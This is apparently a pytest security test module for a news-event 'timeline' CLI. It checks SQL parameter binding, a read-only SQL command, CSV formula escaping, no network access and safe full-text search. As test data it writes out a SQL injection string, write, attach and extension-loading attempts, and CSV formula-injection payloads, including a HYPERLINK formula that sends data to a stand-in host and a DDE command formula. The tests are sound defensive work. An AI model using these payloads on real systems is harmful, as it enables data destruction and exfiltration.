"""Nothing let in: filter values reach SQL only as bound parameters, `timeline sql` cannot
write or attach, CSV cells cannot run as formulas, and nothing is fetched from the network."""

from __future__ import annotations

import csv
import io
import json
import shutil
import socket
import sqlite3

import click
import pytest
from sqlalchemy import Engine, event

from timeline.cli import main
from tests.conftest import SEEDS, cli_commands

COMMANDS = cli_commands()
INJECTION = "'; DROP TABLE events; --"
# Options that are not filters: where to write, how to format, paging flags.
NOT_FILTERS = {"fmt", "output", "as_json", "no_pager", "reverse", "help", "top", "after"}


def value_options(command_name: str) -> list[str]:
    """Every option of the command that takes a value, read from the command itself, so an
    option added later is sent the injection too."""
    command = COMMANDS[command_name]
    return [p.opts[-1] for p in command.params if isinstance(p, click.Option)
            and not p.is_flag and p.name not in NOT_FILTERS]


def schema_and_counts(db) -> tuple:
    conn = sqlite3.connect(db)
    master = conn.execute("SELECT type, name, sql FROM sqlite_master ORDER BY name").fetchall()
    counts = {t: conn.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0]
              for _, t, _ in master if _ == "table" and not t.startswith(("sqlite_", "events_fts"))}
    conn.close()
    return master, counts


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    """The seeds ingested once; each test gets its own copy (ingesting is the slow part)."""
    from click.testing import CliRunner

    db = tmp_path_factory.mktemp("template") / "seeded.db"
    assert CliRunner().invoke(main, ["--db", str(db), "ingest", str(SEEDS)]).exit_code == 0
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return db


@pytest.fixture
def seeded(template, db_path, cli):
    shutil.copy(template, db_path)
    return cli


@pytest.fixture
def statements():
    """Every SQL statement text sent to the database while the test runs."""
    seen: list[str] = []

    def record(conn, cursor, statement, parameters, context, executemany):
        seen.append(statement)

    event.listen(Engine, "before_cursor_execute", record)
    yield seen
    event.remove(Engine, "before_cursor_execute", record)


FILTER_CASES = [(command, option) for command in ("list", "export", "count", "stats")
                if command in COMMANDS for option in value_options(command)]


@pytest.mark.parametrize("command,option", FILTER_CASES, ids=[f"{c}{o}" for c, o in FILTER_CASES])
def test_an_injection_through_a_filter_is_only_ever_a_value(seeded, db_path, statements,
                                                            command, option):
    before = schema_and_counts(db_path)
    result = seeded(command, option, INJECTION)
    assert result.exit_code in (0, 1, 2), result.output  # a value it refuses is a usage error
    assert "Traceback" not in result.output
    assert not any(INJECTION in s or "DROP TABLE" in s.upper() for s in statements)
    assert schema_and_counts(db_path) == before


def test_the_filters_tried_include_every_text_filter(seeded):
    tried = {o for c, o in FILTER_CASES if c == "list"}
    assert {"--type", "--since", "--until", "--limit"} <= tried
    for later in ("--actor", "--country", "--place", "--search", "--status"):
        if later in [p.opts[-1] for p in COMMANDS["list"].params]:
            assert later in tried


def test_an_injection_that_is_accepted_matches_nothing(seeded):
    for option in ("--actor", "--place", "--search"):
        if option in value_options("list"):
            result = seeded("export", "--format", "jsonl", option, INJECTION)
            assert (result.exit_code, result.output) == (0, ""), option


# Beyond what tests/test_sql.py refuses: writes hidden behind a first harmless statement,
# in a parameter, in a CTE, through pragmas and functions that touch files.
SQL_ATTEMPTS = [
    ("SELECT 1; DROP TABLE events", ()),
    ("SELECT 1; ATTACH DATABASE '{tmp}/x.db' AS x", ()),
    ("ATTACH DATABASE :path AS x", ("-p", "path", "{tmp}/x.db")),
    ("WITH t AS (SELECT 1) DELETE FROM events", ()),
    ("REPLACE INTO actors (id, name, kind) VALUES (1, 'x', 'group')", ()),
    ("INSERT OR IGNORE INTO actors (name, kind) VALUES ('x', 'group')", ()),
    ("PRAGMA writable_schema = ON", ()),
    ("PRAGMA user_version = 7", ()),
    ("PRAGMA wal_checkpoint(TRUNCATE)", ()),
    ("SELECT load_extension('{tmp}/evil')", ()),
    ("DETACH DATABASE main", ()),
    ("CREATE VIEW v AS SELECT 1", ()),
    ("CREATE TRIGGER t AFTER INSERT ON events BEGIN DELETE FROM events; END", ()),
    ("ALTER TABLE events RENAME TO gone", ()),
    ("REINDEX", ()),
    ("ANALYZE", ()),
    ("VACUUM", ()),
    ("SAVEPOINT s", ()),
]


@pytest.mark.parametrize("statement,params", SQL_ATTEMPTS, ids=[s for s, _ in SQL_ATTEMPTS])
def test_timeline_sql_cannot_write_or_attach(seeded, db_path, tmp_path, statement, params):
    before = schema_and_counts(db_path)
    with sqlite3.connect(db_path) as conn:
        user_version = conn.execute("PRAGMA user_version").fetchone()
    result = seeded("sql", statement.format(tmp=tmp_path),
                    *(p.format(tmp=tmp_path) for p in params))
    assert result.exit_code == 1, result.output
    assert result.output.startswith("Error: ") and len(result.output.splitlines()) == 1
    assert "Traceback" not in result.output
    assert schema_and_counts(db_path) == before
    with sqlite3.connect(db_path) as conn:
        assert conn.execute("PRAGMA user_version").fetchone() == user_version
    assert not (tmp_path / "x.db").exists()


def test_a_parameter_is_a_value_not_sql(seeded):
    result = seeded("sql", "SELECT count(*) AS n FROM events WHERE type = :t", "-p", "t",
                    INJECTION, "--json")
    assert result.exit_code == 0 and json.loads(result.output) == [{"n": 0}]


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["list", "--format", "csv"]],
                         ids=lambda c: c[0])
def test_csv_cells_cannot_run_as_formulas(seeded, formula, command):
    event_id = json.loads(seeded("export", "--format", "jsonl", "--limit", "1").output)["id"]
    assert seeded("edit", str(event_id), "--place", formula, "--actor", formula).exit_code == 0
    stored = json.loads(seeded("export", "--format", "jsonl", "--limit", "1").output)
    output = seeded(*command).output
    rows = list(csv.DictReader(io.StringIO(output, newline="")))
    assert len(rows) == len(seeded("export", "--format", "jsonl").output.splitlines()), \
        "a cell split its row"
    [row] = [r for r in rows if r["id"] == str(event_id)]
    for column, value in (("location", stored["location"]), ("actors", stored["actors"][0])):
        assert row[column] == ("'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r"))
                               else value)
    for cell in (c for r in rows for c in r.values() if c):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test, whatever library makes it."""
    attempts: list = []

    def refuse(self, address, *args):
        attempts.append(address)
        raise AssertionError(f"a network connection was attempted: {address}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda address, *a, **k: refuse(None, address))
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *a, **k: refuse(None, host))
    return attempts


def test_ingesting_articles_full_of_urls_fetches_nothing(cli, tmp_path, no_network):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "links.txt").write_text(
        "Police arrest two men over a bombing plot\n\nhttps://example.org/article.html\n"
        "Police arrested two men in Lyon on 3 March 2022, http://example.com/img.png said.\n"
        "<img src=\"http://tracker.example/pixel.gif\"> See www.example.net for more.\n")
    for args in (["ingest", str(folder), str(SEEDS)], ["list"], ["export"], ["articles"],
                 ["count"], ["stats"]):
        if args[0] in COMMANDS:
            result = cli(*args)
            assert result.exit_code == 0, (args, result.output)
    assert no_network == []


# Full-text query syntax is a language of its own: a search is words, never an FTS5 query.
SEARCHES = ['"unbalanced', "NEAR(attack said", "attack OR", "*", "^attack", "sentence:said",
            "title : x", "a AND NOT b", "-attack", "attack*", "(", "'", "\\", "%", "_",
            "\u0000", "💣", "ATTACK"]


@pytest.mark.parametrize("search", SEARCHES, ids=repr)
def test_a_search_is_words_never_query_syntax(seeded, search):
    result = seeded("export", "--format", "jsonl", "--search", search)
    assert result.exit_code in (0, 2), result.output
    assert "Traceback" not in result.output and "fts5" not in result.output.lower()
    if result.exit_code == 2:
        assert "--search" in result.output
